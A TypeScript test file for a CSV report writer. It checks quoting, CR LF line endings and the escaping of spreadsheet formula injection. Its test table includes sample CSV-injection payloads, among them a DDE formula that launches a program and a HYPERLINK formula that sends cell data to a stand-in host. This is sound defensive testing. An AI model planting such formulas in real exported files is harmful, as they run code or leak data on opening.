import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../lib/report/csv.ts';
import { csvRead } from '../../support/csv.ts';

/** The text of a file with that cell alone, behind the mark. */
const written = (cell: string) => csvOf([[cell]]).slice(1, -2);

describe('a cell of a CSV file', () => {
  it.each<[why: string, cell: string, text: string]>([
    ['stands as it is', 'mail.example.com', 'mail.example.com'],
    ['may be empty', '', ''],
    ['is quoted for a comma', 'a,b', '"a,b"'],
    ['for a quote, which is doubled', 'say "x"', '"say ""x"""'],
    ['for a line break within', 'a\r\nb', '"a\r\nb"'],
    ['for a bare CR or LF within', 'a\nb\rc', '"a\nb\rc"'],
    ['for a space at an end, which readers take off', 'a ', '"a "'],
    ['keeps letters of every script', 'bücher.例え, “§”', '"bücher.例え, “§”"'],
    ['keeps a sign that stands within', 'a=b+c-d@e', 'a=b+c-d@e'],
    ['that is a formula is text', '=1+1', "'=1+1"],
    ['the same with an apostrophe already', "'=1+1", "'=1+1"],
    ['a formula that opens a program', `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    [
      'a formula that sends the sheet away',
      '=HYPERLINK("https://x.test/?"&A1,"x")',
      `"'=HYPERLINK(""https://x.test/?""&A1,""x"")"`,
    ],
    ['+', '+1', "'+1"],
    ['-', '-1', "'-1"],
    ['@', '@SUM(A1)', "'@SUM(A1)"],
    ['an SPF qualifier in front', '-all', "'-all"],
    ['a tab in front, which moves to the next cell', '\t=1', "'\t=1"],
    ['a tab in front of anything', '\tx', "'\tx"],
    ['a CR in front', '\rx', '"\'\rx"'],
    ['an LF in front', '\nx', '"\'\nx"'],
    ['a space before the formula', ' =1', "' =1"],
    ['a no-break space before it', '\u00A0=1', "'\u00A0=1"],
    ['a zero-width space before it', '\u200B=1', "'\u200B=1"],
    ['a mark of byte order before it', '\uFEFF=1', "'\uFEFF=1"],
    ['full-width signs, which some spreadsheets read', '＝1', "'＝1"],
    ['the other full-width signs', '＠x', "'＠x"],
    ['NUL before it', '\0=1', "'\0=1"],
  ])('%s: %j', (_, cell, text) => {
    expect(written(cell)).toBe(text);
    expect(csvRead(`${written(cell)}\r\n`)).toEqual([[text.startsWith('"') ? expect.any(String) : text]]);
  });

  it('is read back as it was, but for the apostrophe before what could be a formula', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ',', '\r', '\n', '\t', ' ', 'a') }),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
        const read = csvRead(csvOf(rows).slice(1));
        expect(read.map(({ length }) => length)).toEqual(rows.map(({ length }) => length));
        for (const [at, text] of read.flat().entries()) {
          const was = rows.flat()[at] ?? '';
          expect([was, `'${was}`]).toContain(text);
          expect(text).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
        }
      }),
    );
  });
});

describe('a CSV file', () => {
  it('begins with the mark of UTF-8 and ends each line with CR LF', () => {
    expect(
      csvOf([
        ['a', 'b'],
        ['c', ''],
      ]),
    ).toBe('\uFEFFa,b\r\nc,\r\n');
  });
});

describe('the reader of these tests', () => {
  it.each(['a', 'a\n', '"a\r\n', 'a"b"\r\n', '"a"b\r\n'])('refuses %j', (text) => {
    expect(() => csvRead(text)).toThrow();
  });
});
